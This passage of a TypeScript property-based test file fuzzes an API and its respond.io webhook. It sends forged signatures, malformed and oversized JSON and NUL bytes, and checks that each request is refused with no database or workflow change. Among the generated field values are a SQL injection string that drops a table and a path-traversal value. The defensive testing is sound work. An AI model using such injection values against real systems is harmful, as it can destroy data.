    const expected = Buffer.from(correct, 'base64');
    const signature = fc.oneof(
      fc.constant(undefined),
      fc.constantFrom('', 'not-a-signature', 'null', `sha256=${expected.toString('hex')}`, expected.toString('hex'), correct.slice(0, 20)),
      fc
        .string({ minLength: 1, maxLength: 30 })
        .filter((key) => key !== SIGNING_KEY)
        .map((key) => signRespondioBody(raw, key)),
      fc.constantFrom(`${raw} `, JSON.stringify(event, null, 2), raw.replace('"', "'")).map((other) => signRespondioBody(other, SIGNING_KEY)),
      fc
        .tuple(fc.integer({ min: 0, max: 41 }), fc.constantFrom(...'ABCDEFGHabcdefgh0123456789+/'))
        .map(([at, c]) => `${correct.slice(0, at)}${c}${correct.slice(at + 1)}`),
      fc.integer({ min: 0, max: 40 }).map((length) => correct.slice(0, length)),
      fc.constantFrom(`${correct}AAAA`, `${correct}${correct}`, `${correct}, ${b64('x'.repeat(32))}`),
      fc.uint8Array({ minLength: 32, maxLength: 32 }).map((bytes) => b64(bytes)),
      fc.string({ unit: 'grapheme-ascii', maxLength: 60 }),
    );
    return (
      fc
        .tuple(signature, webhookContentType)
        // Node's base64 decoding skips what is not base64: keep only signatures whose bytes really differ.
        .filter(([sig]) => sig === undefined || !Buffer.from(sig.trim(), 'base64').equals(expected))
        .map(([sig, contentType]): BadRequest => ({
          method: 'POST',
          path: webhookPath,
          headers: { ...(contentType ? { 'content-type': contentType } : {}), ...(sig === undefined ? {} : { 'x-webhook-signature': sig }) },
          body: raw,
          expect: [401],
        }))
    );
  });
  const eventField = (event: Record<string, unknown>, field: string) => fc.tuple(fc.constant(event), fc.constant(field.split('.')));
  const malformedEvent = fc.oneof(
    fc.oneof(
      fc.constant([]),
      validEvent.map((event) => [event]),
      aNumber,
      fc.string({ maxLength: 20 }),
      fc.boolean(),
      fc.constant(null),
    ),
    fc
      .tuple(validEvent, fc.constantFrom('event_id', 'event_type'), fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, blank))
      .map(([event, field, value]) => withField(event, [field], value)),
    fc.tuple(validEvent, textOver(200, 300)).map(([event, value]) => withField(event, ['event_id'], value)),
    fc.tuple(validEvent, textOver(100, 300)).map(([event, value]) => withField(event, ['event_type'], value)),
    fc.tuple(validEvent, fc.oneof(fc.constant(REMOVE), fc.constant(null), notAnObject)).map(([event, value]) => withField(event, ['contact'], value)),
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          validEvent,
          fc.oneof(
            fc.constant(REMOVE),
            fc.constantFrom(null, -1, 1.5, 'abc', '', ' 12', '-5', '1'.repeat(21), '12a', true, {}, [], '１２', "1'; DROP TABLE webhook_events;--", '../1'),
          ),
        )
        .map(([event, value]) => withField(event, ['contact', 'id'], value)),
    },
    fc
      .tuple(validEvent, fc.constantFrom('firstName', 'lastName', 'email', 'phone', 'language'), fc.oneof(aNumber, fc.boolean(), jsonObject, jsonArray))
      .map(([event, field, value]) => withField(event, ['contact', field], value)),
    fc
      .tuple(validEvent, fc.oneof(fc.string({ minLength: 1, maxLength: 10 }), aNumber, fc.constant(true), jsonArray))
      .map(([event, value]) => withField(event, ['contact', 'assignee'], value)),
    validEvent
      .map((event) => ({ ...event, event_type: 'conversation.opened' }))
      .chain((event) =>
        fc.oneof(
          fc
            .tuple(fc.constant(event), fc.oneof(fc.string({ maxLength: 10 }), aNumber, fc.constant(true), jsonArray))
            .map(([e, v]) => withField(e, ['conversation'], v)),
          fc.tuple(fc.constant(event), fc.oneof(aNumber, fc.boolean(), jsonObject)).map(([e, v]) => withField(e, ['conversation'], { source: v })),
        ),
      ),
    {
      weight: 5,
      arbitrary: fc
        .tuple(contactNumber, fc.uuid(), fc.integer({ min: 1, max: 2_000_000_000 }))
        .map(([id, eventId, messageId]) => ({ ...messageReceived({ id }, { messageId, text: 'hello' }), event_id: eventId }) as Record<string, unknown>)
        .chain((event) =>
          fc.oneof(
            eventField(event, 'message').chain(([e, p]) => fc.oneof(fc.constant(REMOVE), fc.constant(null), notAnObject).map((v) => withField(e, p, v))),
            eventField(event, 'message.messageId').chain(([e, p]) =>
              fc
                .oneof(fc.constant(REMOVE), fc.constant(null), fc.constant(''), textOver(200, 100), fc.boolean(), jsonObject, jsonArray)
                .map((v) => withField(e, p, v)),
            ),
            eventField(event, 'message.traffic').chain(([e, p]) =>
              fc.oneof(fc.constant(null), aNumber, fc.boolean(), jsonObject).map((v) => withField(e, p, v)),
            ),
            eventField(event, 'message.timestamp').chain(([e, p]) =>
              fc
                .oneof(fc.integer({ max: -1 }), fc.constantFrom('abc', '1'.repeat(13), '-1', '1.5', 'yesterday', ''), fc.boolean(), jsonObject, jsonArray)
                .map((v) => withField(e, p, v)),
            ),
            eventField(event, 'message.message').chain(([e, p]) =>
              fc.oneof(fc.constant(REMOVE), fc.constant(null), notAnObject).map((v) => withField(e, p, v)),
            ),
            eventField(event, 'message.message.type').chain(([e, p]) =>
              fc.oneof(fc.constant(REMOVE), fc.constant(null), fc.constant(''), textOver(50, 100), aNumber, fc.boolean()).map((v) => withField(e, p, v)),
            ),
            eventField(event, 'message.message.text').chain(([e, p]) =>
              fc.oneof(aNumber, fc.boolean(), jsonObject, textOver(10_000, 1_000)).map((v) => withField(e, p, v)),
            ),
            eventField(event, 'channel').chain(([e, p]) =>
              fc.oneof(fc.string({ maxLength: 10 }), aNumber, fc.constant(true), jsonArray).map((v) => withField(e, p, v)),
            ),
          ),
        ),
    },
  );
  const signedMalformed = fc.tuple(malformedEvent, webhookContentType).map(([event, contentType]) => signed(JSON.stringify(event), contentType));
  const signedUnreadable = fc.oneof(
    validEvent
      .chain((event) => {
        const text = JSON.stringify(event);
        return fc.oneof(
          fc.integer({ min: 1, max: text.length - 1 }).map((cut) => text.slice(0, cut)),
          fc.constantFrom('x', '}', ',').map((suffix) => text + suffix),
          fc.constantFrom(...INVALID_JSON),
        );
      })
      .map((raw) => signed(raw)),
    fc.tuple(validEvent, badUtf8Bytes).map(([event, bad]) => signed(splice(JSON.stringify(withField(event, ['contact', 'id'], `12${MARK}34`)), bad))),
    fc.tuple(validEvent, badUtf8Bytes).map(([event, bad]) => signed(splice(afterBrace(JSON.stringify(event)), bad))),
    nestedAt(validEvent, ['contact', 'id']).map((raw) => signed(raw)),
  );
  const webhookTooLarge = fc.tuple(validEvent, fc.integer({ min: 1024 * KB + 1, max: 1536 * KB }), fc.boolean()).map(([event, size, sign]): BadRequest => {
    const raw = JSON.stringify({ ...event, padding: 'x'.repeat(size) });
    return sign
      ? { ...signed(raw), expect: [413] }
      : { method: 'POST', path: webhookPath, headers: { 'content-type': 'application/json' }, body: raw, expect: [413] };
  });

  // -- put together ----------------------------------------------------------------------------------------------------
  const at = (method: string, path: string, body: fc.Arbitrary<unknown>, key = admin, expect: readonly number[] = [400]) =>
    body.map((b) => jsonRequest(key, method, path, b, expect));
  const atBadPath = (method: string, path: (id: string) => string, valid: fc.Arbitrary<unknown>) =>
    fc
      .tuple(badPathId, valid)
      .map(([id, body]) =>
        method === 'GET' ? { method, path: path(id), headers: bearer(admin), expect: [400, 404] } : jsonRequest(admin, method, path(id), body, [400, 404]),
      );
  const atUnknown = (method: string, path: (id: string) => string, valid: fc.Arbitrary<unknown>) =>
    fc
      .tuple(unknownId, valid)
      .map(([id, body]) =>
        method === 'GET' ? { method, path: path(id), headers: bearer(admin), expect: [404] } : jsonRequest(admin, method, path(id), body, [404]),
      );
  const raw = (method: string, path: string, valid: Valid, idField?: string[], bodyIgnored?: boolean) =>
    rawBodies({ key: admin, method, path, valid, idField, bodyIgnored });
  const big = (method: string, path: string, valid: Valid, bodyLimit?: number) => oversized({ key: admin, method, path, valid, bodyLimit });
  const closeValid: Valid = fc.constant({ reason: 'bad input' });
  const erasure = fc.oneof(
    badPathId.map((id) => ({ method: 'DELETE', path: `/v1/contacts/${id}`, headers: bearer(admin), expect: [400, 404] })),
    fc
      .oneof(
        fc.string({ maxLength: 12 }).filter((v) => v !== 'true' && v !== 'false').map((v) => `directory=${encodeURIComponent(v)}`),
        fc.constantFrom('directory=true&directory=false', 'directory=TRUE', 'directory=1', 'erase=all', 'directory=true&x=1'),
      )
      .map((query) => ({ method: 'DELETE', path: `/v1/contacts/${open}?${query}`, headers: bearer(admin), expect: [400] })),
  );

  return [
    { name: 'no, unknown or revoked API key', runs: 110, arb: unauthenticated },
    { name: 'codec key in the path wrong', runs: 15, arb: codecKeyInPath },
    { name: 'key whose scope does not allow the route', runs: 90, arb: forbidden },
    { name: 'POST /v1/conversations: bad fields', runs: 110, arb: at('POST', '/v1/conversations', startBody) },
    { name: 'POST /v1/conversations: body sent wrong', runs: 50, arb: raw('POST', '/v1/conversations', contactBase, ['contact', 'id']) },
    { name: 'POST /v1/contacts/{id}/messages: bad fields, open conversation', runs: 80, arb: at('POST', messagesPath(open), messageBody) },
    { name: 'POST /v1/contacts/{id}/messages: body sent wrong', runs: 40, arb: raw('POST', messagesPath(open), messageBase) },
    { name: 'POST /v1/contacts/{id}/messages: bad id', runs: 30, arb: atBadPath('POST', messagesPath, messageBase) },
    { name: 'POST /v1/contacts/{id}/messages: no open conversation', runs: 15, arb: atUnknown('POST', messagesPath, messageBase) },
    {
      name: 'GET /v1/contacts/{id}/messages: bad or unknown id',
      runs: 30,
      arb: fc.oneof(atBadPath('GET', messagesPath, fc.constant(undefined)), atUnknown('GET', messagesPath, fc.constant(undefined))),
    },
    {
      name: 'GET /v1/conversations/{id}: bad or unknown id',
      runs: 40,
      arb: fc.oneof(
        atBadPath('GET', (id) => `/v1/conversations/${id}`, fc.constant(undefined)),
        atUnknown('GET', (id) => `/v1/conversations/${id}`, fc.constant(undefined)),
      ),
    },
    {
      name: 'POST /v1/conversations/{id}/close: bad or unknown id',
      runs: 35,
      arb: fc.oneof(
        atBadPath('POST', (id) => `/v1/conversations/${id}/close`, closeValid),
        atUnknown('POST', (id) => `/v1/conversations/${id}/close`, closeValid),
      ),
    },
    { name: 'DELETE /v1/contacts/{id}: bad id, or a directory flag not true or false, open conversation', runs: 30, arb: erasure },
    {
      name: 'POST /v1/conversations/{id}/close: body sent wrong, open conversation',
      runs: 20,
      arb: raw('POST', `/v1/conversations/${open}/close`, closeValid, undefined, true),
    },
    { name: 'POST /v1/conversations/{id}/transfer: bad fields, open conversation', runs: 60, arb: at('POST', transferPath(open), transferBody) },
    {
      name: 'POST /v1/conversations/{id}/transfer: bad id, unknown id, body sent wrong',
      runs: 30,
      arb: fc.oneof(
        atBadPath('POST', transferPath, transferBase),
        atUnknown('POST', transferPath, transferBase),
        raw('POST', transferPath(open), transferBase, ['agentId']),
      ),
    },
    {
      name: 'PUT /v1/agents/{id}: bad fields',
      runs: 80,
      arb: fc.tuple(fc.oneof(fc.constant(f.agentId), freshAgentId), putAgentBody).map(([id, body]) => jsonRequest(admin, 'PUT', agentPath(id), body)),
    },
    {
      name: 'PUT /v1/agents/{id}: bad id, body sent wrong',
      runs: 40,
      arb: fc.oneof(atBadPath('PUT', agentPath, agentBase), raw('PUT', agentPath(f.agentId), agentBase)),
    },
    { name: 'PATCH /v1/agents/{id}: bad fields', runs: 50, arb: at('PATCH', agentPath(f.agentId), patchAgentBody) },
    {
      name: 'PATCH /v1/agents/{id}: bad id, unknown agent, body sent wrong',
      runs: 30,
      arb: fc.oneof(atBadPath('PATCH', agentPath, patchBase), atUnknown('PATCH', agentPath, patchBase), raw('PATCH', agentPath(f.agentId), patchBase)),
    },
    {
      name: 'PUT /v1/directory/customers/{email}: bad fields',
      runs: 50,
      arb: fc
        .tuple(fc.oneof(fc.constant(f.customerEmail), freshEmail), putCustomerBody)
        .map(([email, body]) => jsonRequest(admin, 'PUT', customerPath(email), body)),
    },
    {
      name: 'PUT /v1/directory/customers/{email}: bad email, body sent wrong',
      runs: 35,
      arb: fc.oneof(
        fc
          .tuple(
            badEmail.filter((s) => !LONE_SURROGATE.test(s)),
            customerBase,
          )
          .map(([email, body]) => jsonRequest(admin, 'PUT', customerPath(email), body, [400, 404])),
        raw('PUT', customerPath(f.customerEmail), customerBase, ['accountManager']),
      ),
    },
    {
      name: 'GET /v1/directory/customers: bad or unknown email',
      runs: 30,
      arb: fc
        .oneof(
          fc.constantFrom(
            '',
            '?',
            '?email=',
            '?email',
            '?mail=ana%40example.com',
            '?email[]=ana%40example.com',
            `?email=${encodeURIComponent(f.customerEmail)}&email=x%40example.com`,
          ),
          badEmail.filter((s) => !LONE_SURROGATE.test(s)).map((email) => `?email=${encodeURIComponent(email)}`),
          freshEmail.map((email) => `?email=${encodeURIComponent(email)}`),
        )
        .map((query): BadRequest => ({ method: 'GET', path: `/v1/directory/customers${query}`, headers: bearer(admin), expect: [400, 404] })),
    },
    {
      name: 'POST /codec/encode|decode: bad payloads',
      runs: 60,
      arb: fc
        .tuple(fc.constantFrom('encode', 'decode'), fc.constantFrom(admin, f.keys.codec), codecBody)
        .map(([operation, key, body]) => jsonRequest(key, 'POST', `/codec/${operation}`, body)),
    },
    { name: 'POST /codec/decode: payloads it cannot decrypt', runs: 20, arb: at('POST', '/codec/decode', undecodable, f.keys.codec) },
    {
      name: 'POST /codec/encode|decode: body sent wrong',
      runs: 20,
      arb: fc.constantFrom('encode', 'decode').chain((operation) => raw('POST', `/codec/${operation}`, codecValid)),
    },
    { name: 'POST /codec/decode: over 4 MB', runs: 2, arb: big('POST', '/codec/decode', codecValid, 4 * 1024 * KB) },
    {
      name: '/v1 bodies over 100 kB',
      runs: 16,
      arb: fc.oneof(
        big('POST', '/v1/conversations', contactBase),
        big('POST', messagesPath(open), messageBase),
        big('POST', `/v1/conversations/${open}/close`, closeValid),
        big('POST', transferPath(open), transferBase),
        big('PUT', agentPath(f.agentId), agentBase),
        big('PATCH', agentPath(f.agentId), patchBase),
        big('PUT', customerPath(f.customerEmail), customerBase),
      ),
    },
    {
      name: 'JSON nested thousands deep in a field',
      runs: 30,
      arb: fc.oneof(
        nestedAt(contactBase, ['contact', 'id']).map((body) => textRequest(admin, 'POST', '/v1/conversations', body)),
        nestedAt(messageBase, ['messageId']).map((body) => textRequest(admin, 'POST', messagesPath(open), body)),
        nestedAt(transferBase, ['agentId']).map((body) => textRequest(admin, 'POST', transferPath(open), body)),
        nestedAt(agentBase, ['name']).map((body) => textRequest(admin, 'PUT', agentPath(f.agentId), body)),
        nestedAt(patchBase, ['online']).map((body) => textRequest(admin, 'PATCH', agentPath(f.agentId), body)),
        nestedAt(customerBase, ['customerType']).map((body) => textRequest(admin, 'PUT', customerPath(f.customerEmail), body)),
        nestedAt(codecValid, ['payloads']).map((body) => textRequest(f.keys.codec, 'POST', '/codec/decode', body)),
      ),
    },
    { name: 'no such route or method', runs: 50, arb: noSuchRoute },
    { name: 'webhook: missing, garbled or wrong-key signature', runs: 90, arb: badSignature },
    { name: 'webhook: signed but malformed event', runs: 110, arb: signedMalformed },
    { name: 'webhook: signed but not JSON or bad UTF-8', runs: 30, arb: signedUnreadable },
    { name: 'webhook: over 1 MB', runs: 4, arb: webhookTooLarge },
  ];
}

/** base64(HMAC-SHA256) over raw bytes, for bodies that are not valid UTF-8 (signRespondioBody takes text). */
function signBytes(raw: Uint8Array, key: string): string {
  return createHmac('sha256', key).update(raw).digest('base64');
}

// ---------------------------------------------------------------------------------------------------------------
// Sending and judging

interface Outcome {
  generator: string;
  request: BadRequest;
  status: number;
  problem?: string;
}

async function send(baseUrl: string, generator: string, request: BadRequest): Promise<Outcome> {
  const bytes = typeof request.body === 'string' ? new TextEncoder().encode(request.body) : request.body;
  const body =
    request.chunked && bytes
      ? new ReadableStream<Uint8Array>({
          start(controller) {
            for (let at = 0; at < bytes.length; at += 64 * KB) controller.enqueue(bytes.subarray(at, at + 64 * KB));
            controller.close();
          },
        })
      : request.body;
  let response: Response;
  try {
    response = await fetch(`${baseUrl}${request.path}`, {
      method: request.method,
      headers: request.headers,
      body,
      ...(request.chunked ? { duplex: 'half' } : {}),
    } as RequestInit);
  } catch (error) {
    return { generator, request, status: 0, problem: `no answer: ${(error as Error).message} (${String((error as Error).cause ?? '')})` };
  }
  const text = await response.text();
  const { status } = response;
  const problem = judge(request, status, response.headers.get('content-type') ?? '', text);
  return { generator, request, status, problem };
}

function judge(request: BadRequest, status: number, contentType: string, text: string): string | undefined {
  if (status < 400 || status > 499) return `answered ${status}: ${text.slice(0, 300)}`;
  if (!request.expect.includes(status)) return `answered ${status}, expected ${request.expect.join(' or ')}: ${text.slice(0, 300)}`;
  if (!/^application\/json\b/i.test(contentType)) return `answered ${status} as "${contentType}", not JSON: ${text.slice(0, 300)}`;
  let body: any;
  try {
    body = JSON.parse(text);
  } catch {
    return `answered ${status} with a body that is not JSON: ${text.slice(0, 300)}`;
  }
  if (typeof body?.error?.code !== 'string' || typeof body?.error?.message !== 'string')
    return `answered ${status} without { error: { code, message } }: ${text.slice(0, 300)}`;
  return undefined;
}

function countBy<T>(items: readonly T[], key: (item: T) => string): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const item of items) counts[key(item)] = (counts[key(item)] ?? 0) + 1;
  return counts;
}

async function inParallel<T, R>(items: readonly T[], limit: number, work: (item: T) => Promise<R>): Promise<R[]> {
  const results: R[] = new Array(items.length);
  let next = 0;
  const worker = async () => {
    for (let index = next++; index < items.length; index = next++) results[index] = await work(items[index]!);
  };
  await Promise.all(Array.from({ length: limit }, worker));
  return results;
}

function describeRequest(request: BadRequest, keys: Record<string, string>): string {
  const redact = (value: string) => Object.entries(keys).reduce((text, [name, key]) => text.split(key).join(`<${name} key>`), value);
  const headers = Object.entries(request.headers).map(([name, value]) => `${name}: ${redact(value)}`);
  const body =
    request.body === undefined
      ? ''
      : typeof request.body === 'string'
        ? ` body(${request.body.length} chars)=${JSON.stringify(request.body.slice(0, 300))}`
        : ` body(${request.body.length} bytes, hex)=${Buffer.from(request.body.subarray(0, 200)).toString('hex')}`;
  return `${request.method} ${redact(request.path).slice(0, 300)} [${headers.join('; ')}]${request.chunked ? ' (chunked)' : ''}${body}`;
}

// ---------------------------------------------------------------------------------------------------------------
// What must not change

interface Snapshot {
  tables: Record<string, { rows: number; digest: string }>;
  /** Every run on the harness's task queue: id, run id and status. */
  workflows: string[];
  /** Events in the open conversation's history: any signal or update would add some. */
  openHistory: number;
}

async function tableState(h: Harness): Promise<Snapshot['tables']> {
  const { rows: tables } = await h.db.query<{ name: string }>(
    `SELECT table_name AS name FROM information_schema.tables
      WHERE table_schema = 'public' AND table_type = 'BASE TABLE' AND table_name <> 'migrations' ORDER BY table_name`,
  );
  const state: Snapshot['tables'] = {};
  for (const { name } of tables) {
    // api_keys.last_used_at moves with every request (an UPDATE, by design): the rest of the row must not.
    const row = name === 'api_keys' ? `to_jsonb(t) - 'last_used_at'` : 'to_jsonb(t)';
    const { rows } = await h.db.query<{ rows: number; digest: string }>(
      `SELECT count(*)::int AS rows, md5(coalesce(string_agg(r, E'\\n' ORDER BY r), '')) AS digest FROM (SELECT (${row})::text AS r FROM "${name}" t) s`,
    );
    state[name] = rows[0]!;
  }
  return state;
}

async function workflowsOnQueue(h: Harness): Promise<string[]> {
  const found: string[] = [];
  for await (const run of h.client.workflow.list({ query: `TaskQueue="${h.taskQueue}"` })) found.push(`${run.workflowId} ${run.runId} ${run.status.name}`);
  return found.sort();
}

async function historyLength(h: Harness, contactId: string): Promise<number> {
  const history = await h.client.workflow.getHandle(workflowIdForContact(contactId)).fetchHistory();
  return history.events?.length ?? 0;
}

async function snapshot(h: Harness, openContact: string): Promise<Snapshot> {
  return { tables: await tableState(h), workflows: await workflowsOnQueue(h), openHistory: await historyLength(h, openContact) };
}

async function waitUntil<T>(what: string, probe: () => Promise<T | undefined>, timeoutMs = 20_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((tick) => setTimeout(tick, 100));
  }
}

function differences(before: Snapshot['tables'], after: Snapshot['tables']): string[] {
  const names = [...new Set([...Object.keys(before), ...Object.keys(after)])].sort();
  return names.flatMap((name) => {
    const [was, is] = [before[name], after[name]];
    if (was?.rows === is?.rows && was?.digest === is?.digest) return [];
    return [`${name}: ${was?.rows ?? 'absent'} → ${is?.rows ?? 'absent'} rows${was?.rows === is?.rows ? ' (same count, content changed)' : ''}`];
  });
}

// ---------------------------------------------------------------------------------------------------------------

describe('bad input, generated, across every endpoint and the respond.io webhook', () => {
  let h: Harness;
  let respondio: RespondioStandIn;
  let fixtures: Fixtures;
  let baseline: Snapshot;
  let outcomes: Outcome[] = [];
  let elapsedMs = 0;

  before(async () => {
    respondio = await startRespondioStandIn({ token: TOKEN });
    h = await Harness.start({ respondio: { baseUrl: respondio.baseUrl, token: TOKEN, signingKeys: [SIGNING_KEY] } });
    const scoped = async (scope: Exclude<Scope, 'admin'>) => (await h.apiKeys.create(scope, `bad-input ${scope}`)).key;
    const { key: revokedKey } = await h.apiKeys.create('admin', 'bad-input revoked');
    await h.apiKeys.renew('admin', 'bad-input revoked');
    fixtures = {
      keys: { admin: h.adminKey, integration: await scoped('integration'), read: await scoped('read'), codec: await scoped('codec') },
      revokedKey,
      openContact: String(8_000_000_000 + Math.floor(Math.random() * 999_999_999)),
      agentId: 'bad-input-agent',
      customerEmail: 'bad-input-vip@example.com',
      codecKeyId: h.codec.keyIds[0]!,
    };
    await h.putAgent(fixtures.agentId, { team: 'support', capacity: 2 });
    await h.putCustomer(fixtures.customerEmail, { customerType: 'VIP', accountManager: fixtures.agentId });
    assert.equal((await h.open({ id: fixtures.openContact })).status, 202);
    await h.waitForState(fixtures.openContact, 'asking_email');

    // Quiet first: the agent sync the worker's Schedule starts at once has finished, the question has gone out.
    await waitUntil('the first agent sync', async () =>
      (await workflowsOnQueue(h)).some((run) => run.startsWith('sync-agents-') && run.endsWith(' COMPLETED')) ? true : undefined,
    );
    await waitUntil('the question to be delivered', async () => {
      const { rows } = await h.db.query(`SELECT count(*)::int AS n FROM messages WHERE contact_id = $1 AND delivery <> 'stored'`, [fixtures.openContact]);
      return rows[0].n > 0 ? true : undefined;
    });
    let previous = await snapshot(h, fixtures.openContact);
    baseline = await waitUntil('the database to settle', async () => {
      await new Promise((tick) => setTimeout(tick, 300));
      const current = await snapshot(h, fixtures.openContact);
      const settled = JSON.stringify(current) === JSON.stringify(previous);
      previous = current;
      return settled ? current : undefined;
    });
  });

  after(async () => {
    await h.close();
    await respondio.close();
  });

  it(`answers ≥ ${MIN_REQUESTS} generated bad requests with a 4xx { error: { code, message } } (seed ${SEED})`, async () => {
    console.log(`bad input: seed ${SEED} (BAD_INPUT_SEED=${SEED} replays this run)`);
    const all = generators(fixtures).flatMap((generator, index) =>
      fc.sample(generator.arb, { seed: SEED + index, numRuns: generator.runs }).map((request) => ({ generator: generator.name, request })),
    );
    const started = performance.now();
    outcomes = await inParallel(all, CONCURRENCY, ({ generator, request }) => send(h.baseUrl, generator, request));
    elapsedMs = performance.now() - started;

    const failures = outcomes.filter((outcome) => outcome.problem !== undefined);
    const keys = { ...fixtures.keys, revoked: fixtures.revokedKey };
    const report = failures
      .slice(0, 40)
      .map((failure, index) => `${index + 1}. [${failure.generator}] ${failure.problem}\n   ${describeRequest(failure.request, keys)}`)
      .join('\n');
    const byGenerator = Object.entries(countBy(failures, (failure) => failure.generator)).map(([name, n]) => `${name}: ${n}`);
    assert.ok(outcomes.length >= MIN_REQUESTS, `only ${outcomes.length} requests`);
    assert.equal(
      failures.length,
      0,
      `${failures.length} of ${outcomes.length} bad requests were not refused properly (seed ${SEED}; ${byGenerator.join(', ')}):\n${report}`,
    );
  });

  it('wrote no row and started, signalled or closed no workflow', async () => {
    const afterwards = await snapshot(h, fixtures.openContact);
    // Visibility lags a little: a run started after the fuzzing is listed only once everything before it is.
    await syncAgentsNow(h.client, h.taskQueue);
    const afterCanary = await waitUntil('the canary sync to be listed', async () => {
      const runs = await workflowsOnQueue(h);
      return runs.some((run) => run.includes('-manual-') && run.endsWith(' COMPLETED')) ? runs : undefined;
    });
    const workflows = afterCanary.filter((run) => !run.includes('-manual-'));
    const rowChanges = differences(baseline.tables, afterwards.tables);
    const workflowChanges = [
      ...workflows.filter((run) => !baseline.workflows.includes(run)),
      ...baseline.workflows.filter((run) => !workflows.includes(run)).map((run) => `gone: ${run}`),
      ...(afterwards.openHistory === baseline.openHistory
        ? []
        : [`the open conversation's history: ${baseline.openHistory} → ${afterwards.openHistory} events`]),
    ];
    const rowsWritten = Object.keys(afterwards.tables).reduce((sum, name) => {
      const [was, is] = [baseline.tables[name], afterwards.tables[name]!];
      return sum + Math.max(Math.abs(is.rows - (was?.rows ?? 0)), is.digest === was?.digest ? 0 : 1);
    }, 0);
    const byStatus = Object.entries(countBy(outcomes, (outcome) => String(outcome.status)))
      .sort(([a], [b]) => Number(a) - Number(b))
      .map(([status, n]) => `${status}: ${n}`)
      .join(', ');
    const fiveXx = outcomes.filter((outcome) => outcome.status >= 500).length;
    const took = `${(elapsedMs / 1000).toFixed(1)} s, ${CONCURRENCY} at a time`;
    console.log(
      `bad input: ${outcomes.length} requests, by status {${byStatus}}, ${fiveXx} 5xx, ${rowsWritten} rows, ${workflowChanges.length} workflows (${took})`,
    );
    assert.deepEqual(rowChanges, [], 'tables changed');
    assert.deepEqual(workflowChanges, [], 'workflows on the task queue, or the open conversation, changed');
  });

  it('is still ready and serves valid requests afterwards', async () => {
    assert.equal((await h.request('GET', '/readyz')).status, 200);
    const agents = await h.requestAs(fixtures.keys.read, 'GET', '/v1/agents');
    assert.equal(agents.status, 200);
    assert.ok(agents.body.agents.some((agent: { id: string }) => agent.id === fixtures.agentId));
    assert.equal((await h.conversation(fixtures.openContact)).state, 'asking_email');
  });

  /** Inputs the generators once got through (each was a 5xx or a write): refused, or taken safely, now. They run last. */
  describe('text and dates PostgreSQL cannot store', () => {
    const refused = (response: { status: number; body: unknown }) =>
      assert.ok(response.status >= 400 && response.status < 500, `answered ${response.status}: ${JSON.stringify(response.body)}`);
    const teamExists = async (team: string) => (await h.db.query(`SELECT 1 FROM teams WHERE name = $1`, [team])).rowCount === 1;
    const webhookRow = async (eventId: string) => (await h.db.query(`SELECT status, last_error FROM webhook_events WHERE event_id = $1`, [eventId])).rows[0];
    const deliver = async (raw: string) => {
      const response = await fetch(`${h.baseUrl}/v1/webhooks/respondio`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-webhook-signature': signRespondioBody(raw, SIGNING_KEY) },
        body: raw,
      });
      return { status: response.status, body: await response.text() };
    };
    /** respond.io relays what contacts type: a 5xx loses the event. Accepted must mean applied. */
    const takenOrRefused = async (eventId: string, raw: string) => {
      const response = await deliver(raw);
      assert.ok(response.status < 500, `answered ${response.status}: ${response.body}`);
      if (response.status !== 200) return assert.equal(await webhookRow(eventId), undefined);
      await waitUntil('the event to be applied', async () => ((await webhookRow(eventId))?.status === 'done' ? true : undefined), 5_000);
    };

    for (const [field, body] of [
      ['text', { messageId: 'bug-nul-text', text: 'hello\u0000' }],
      ['messageId', { messageId: 'bug-nul\u0000id', text: 'hello' }],
      ['timestamp (year 0000)', { messageId: 'bug-year-zero', text: 'hello', timestamp: '0000-01-01T00:00:00Z' }],
    ] as const) {
      it(
        `refuses a message whose ${field} PostgreSQL cannot store, before the run hears of it`,
        async () => {
          const events = await historyLength(h, fixtures.openContact);
          refused(await h.request('POST', `/v1/contacts/${fixtures.openContact}/messages`, body));
          assert.equal(await historyLength(h, fixtures.openContact), events, 'the run got the message');
        },
      );
    }

    it("refuses a NUL in an agent's name or team, writing nothing", async () => {
      refused(await h.request('PUT', '/v1/agents/bad-input-bug-nul', { name: 'A\u0000B', team: 'bad-input-bug-team-1' }));
      assert.equal(await teamExists('bad-input-bug-team-1'), false, 'the team row was written');
      refused(await h.request('PUT', '/v1/agents/bad-input-bug-nul', { name: 'A', team: 'bad-input-bug\u0000' }));
    });

    it(
      'answers 409 to an agent email or respond.io user id another agent holds, writing nothing',
      async () => {
        await h.request('PUT', '/v1/agents/bad-input-holder', { name: 'Holder', team: 'support', email: 'holder@example.com', respondioUserId: '99001' });
        for (const [team, conflict] of [
          ['bad-input-bug-team-2', { email: 'holder@example.com' }],
          ['bad-input-bug-team-3', { respondioUserId: '99001' }],
        ] as const) {
          const response = await h.request('PUT', '/v1/agents/bad-input-taker', { name: 'Taker', team, ...conflict });
          assert.equal(response.status, 409, JSON.stringify(response.body));
          assert.equal(await teamExists(team), false, 'the team row was written');
        }
      },
    );

    it('refuses a NUL in a directory customer', async () => {
      refused(await h.request('PUT', '/v1/directory/customers/bug-nul-1%40example.com', { customerType: 'VIP\u0000' }));
      refused(await h.request('PUT', '/v1/directory/customers/bug-nul-2%40example.com', { customerType: 'VIP', name: 'A\u0000' }));
    });

    it(
      'refuses a NUL in a new contact rather than start a run that cannot save it',
      async () => {
        const id = `bad-input-bug-nul-${Date.now()}`;
        refused(await h.request('POST', '/v1/conversations', { contact: { id, lastName: 'Nul\u0000' } }));
        await assert.rejects(h.client.workflow.getHandle(workflowIdForContact(id)).describe(), 'a run was started');
      },
    );

    /** Answered 200 and applied: the row is done, with no error left on it. */
    const applied = async (eventId: string, raw: string) => {
      const response = await deliver(raw);
      assert.equal(response.status, 200, response.body);
      const row = await waitUntil('the event to be applied', async () => ((await webhookRow(eventId))?.status === 'done' ? webhookRow(eventId) : undefined), 5_000);
      assert.equal(row.last_error, null);
    };

    it('applies a message.received whose timestamp is no date (10^15 s), leaving the date out', async () => {
      const event = messageReceived({ id: 7_950_000_001 }, { messageId: 990_001, text: 'hello', timestamp: 1e15 });
      await applied(event.event_id, JSON.stringify(event));
    });

    it(
      'applies a message.received dated after the year 9999 at once, recording the message without respond.io\'s date, instead of retrying it for 24 h',
      async () => {
